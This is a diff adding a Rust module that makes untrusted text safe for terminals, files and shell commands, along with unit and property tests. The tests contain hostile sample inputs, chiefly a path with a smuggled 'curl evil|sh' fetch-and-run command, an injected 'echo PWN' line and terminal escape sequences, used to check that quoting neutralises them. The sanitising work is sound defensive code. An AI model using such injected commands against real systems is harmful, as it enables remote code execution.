@@ -1,0 +1,102 @@
+// SPDX-License-Identifier: MIT OR Apache-2.0
+//! Text from outside: names, paths, symbols, everything in a recording. Who runs a process chooses it, and it ends up on
+//! terminals, in files and in commands that people paste. It is made harmless once, where it enters.
+
+use std::borrow::Cow;
+
+/// What takes the place of a character that could do something.
+const REPLACEMENT: char = char::REPLACEMENT_CHARACTER;
+
+/// Text of one line: what terminals obey (control characters) and what hides or reorders text becomes U+FFFD.
+pub fn one_line(text: &str) -> Cow<'_, str> {
+    replaced(text, is_harmful)
+}
+
+/// The same for text of several lines: line feeds and tabs stay.
+pub fn lines(text: &str) -> Cow<'_, str> {
+    replaced(text, |letter| is_harmful(letter) && !matches!(letter, '\n' | '\t'))
+}
+
+/// One word for a shell, whatever is in it.
+pub fn shell_word(text: &str) -> Cow<'_, str> {
+    let is_plain = |byte: u8| byte.is_ascii_alphanumeric() || b"/._-:@%+,".contains(&byte);
+    match one_line(text) {
+        text if !text.is_empty() && text.bytes().all(is_plain) => text,
+        text => Cow::Owned(format!("'{}'", text.replace('\'', r"'\''"))),
+    }
+}
+
+/// Strings of a JSON value, and their keys; the verifier's logs have several lines.
+pub fn clean(value: &mut serde_json::Value) {
+    match value {
+        serde_json::Value::String(text) => {
+            if let Cow::Owned(harmless) = one_line(text) {
+                *text = harmless;
+            }
+        }
+        serde_json::Value::Array(values) => values.iter_mut().for_each(clean),
+        serde_json::Value::Object(fields) => {
+            for (name, value) in fields.iter_mut() {
+                match value {
+                    serde_json::Value::String(text) if name == "verifier_log" => *text = lines(text).into_owned(),
+                    value => clean(value),
+                }
+            }
+        }
+        serde_json::Value::Null | serde_json::Value::Bool(_) | serde_json::Value::Number(_) => {}
+    }
+}
+
+fn replaced(text: &str, is_harmful: impl Fn(char) -> bool) -> Cow<'_, str> {
+    if !text.contains(&is_harmful) {
+        return Cow::Borrowed(text);
+    }
+    Cow::Owned(text.chars().map(|letter| if is_harmful(letter) { REPLACEMENT } else { letter }).collect())
+}
+
+/// Control characters, line separators, and characters without a shape that change what is seen of others.
+fn is_harmful(letter: char) -> bool {
+    letter.is_control()
+        || matches!(
+            letter,
+            '\u{61c}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{2069}' | '\u{feff}'
+        )
+}
+
+#[cfg(test)]
+mod tests {
+    use proptest::prelude::*;
+
+    use super::*;
+
+    #[test]
+    fn what_does_something_is_replaced() {
+        assert_eq!(one_line("a\necho PWN;#"), "a\u{fffd}echo PWN;#");
+        assert_eq!(one_line("\x1b]0;x\x07\u{9b}31m\u{202e}\r"), "\u{fffd}]0;x\u{fffd}\u{fffd}31m\u{fffd}\u{fffd}");
+        assert!(matches!(one_line("nginx: wörker"), Cow::Borrowed(_)));
+        assert_eq!(lines("a\n\tb\x1b"), "a\n\tb\u{fffd}");
+        let mut value = serde_json::json!({"comm": "a\nb", "list": ["\x1b"], "verifier_log": "1\n2\r"});
+        clean(&mut value);
+        let harmless = serde_json::json!({"comm": "a\u{fffd}b", "list": ["\u{fffd}"], "verifier_log": "1\n2\u{fffd}"});
+        assert_eq!(value, harmless);
+    }
+
+    #[test]
+    fn a_word_is_one_word() {
+        assert_eq!(shell_word("/run/netns/blue"), "/run/netns/blue");
+        assert_eq!(shell_word("/proc/1/ns/net;curl evil|sh"), "'/proc/1/ns/net;curl evil|sh'");
+        assert_eq!(shell_word("it's $(x) `y`"), r"'it'\''s $(x) `y`'");
+        assert_eq!(shell_word(""), "''");
+    }
+
+    proptest! {
+        #![proptest_config(ProptestConfig { cases: 64, ..ProptestConfig::default() })]
+
+        #[test]
+        fn a_shell_reads_it_as_it_is(text in "[ -~\u{e4}\n\x1b]{0,20}") {
+            let script = format!("printf %s {}", shell_word(&text));
+            let said = std::process::Command::new("sh").args(["-c", &script]).output().expect("a shell");
+            prop_assert_eq!(String::from_utf8_lossy(&said.stdout), one_line(&text));
+        }
+    }
+}
